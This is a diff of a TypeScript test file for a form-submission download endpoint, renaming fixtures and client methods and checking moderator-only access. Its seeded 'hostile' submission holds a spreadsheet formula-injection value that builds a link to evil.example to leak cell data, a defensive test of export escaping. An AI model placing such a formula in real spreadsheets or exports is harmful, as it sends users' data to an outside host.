@@ -10,7 +10,7 @@ import { seedSubmissions } from '../../../support/portal/submissions.ts';
 const app = await testApp({ WORKER: 'off' });
 const {
   admin,
-  anybody,
+  unauthenticated,
   services: { db },
 } = app;
 const moderator = await seedUser(app, 'moderator', { permissions: ['moderate_form'] });
@@ -18,7 +18,7 @@ const author = await seedUser(app, 'author', { permissions: ['edit_form'] });
 const pathOf = async (client: Client, slug: string): Promise<string> =>
   (await client.data('query ($s: ID!) { submissionTable(formSlug: $s) { downloadPath } }', { s: slug })).submissionTable
     .downloadPath;
-const download = (client: Client, path: string) => client.bare('GET', path);
+const download = (client: Client, path: string) => client.request('GET', path);
 
 const blocks = [
   nameBlock,
@@ -33,11 +33,11 @@ await seedForm(admin, 'trees', { sections: [{ title: '', blocks: [{ ...nameBlock
 await changeForm(admin, 'updateForm', { slug: 'trees', sections: [{ title: '', blocks }] });
 await changeForm(admin, 'publishForm', { slug: 'trees' });
 const [old, fresh, hostile] = await seedSubmissions(app, 'trees', [
-  { content: { before: 'long ago' }, status: 'rejected' },
+  { answers: { before: 'long ago' }, status: 'rejected' },
   {
     version: 2,
     submittedBy: 'author',
-    content: {
+    answers: {
       name: 'Öak, "old"',
       who: { email: 'ada@example.org', phone: '+33 1 23 45 67 89' },
       place: { lat: -33.5, lon: 7, street: 'A' },
@@ -50,7 +50,7 @@ const [old, fresh, hostile] = await seedSubmissions(app, 'trees', [
   {
     version: 2,
     status: 'pending',
-    content: { name: '=HYPERLINK("http://evil.example/?"&A1)', kinds: ['@b'], any: '-2' },
+    answers: { name: '=HYPERLINK("http://evil.example/?"&A1)', kinds: ['@b'], any: '-2' },
     revision: { name: 'hidden' },
   },
 ]);
@@ -138,9 +138,9 @@ test('a table of submissions has the filters of the list', async () => {
 test('a table of submissions is for moderators', async () => {
   const path = '/catalog/forms/trees/submissions/download/';
   expect((await download(author, path)).status).toBe(403);
-  expect((await download(anybody, path)).status).toBe(401);
+  expect((await download(unauthenticated, path)).status).toBe(401);
   expect((await download(moderator, '/catalog/forms/none/submissions/download/')).status).toBe(404);
-  expect(await moderator.bare('HEAD', path)).toMatchObject({ status: 200, body: null });
+  expect(await moderator.request('HEAD', path)).toMatchObject({ status: 200, body: null });
 });
 
 test('ten thousand submissions are streamed', async () => {
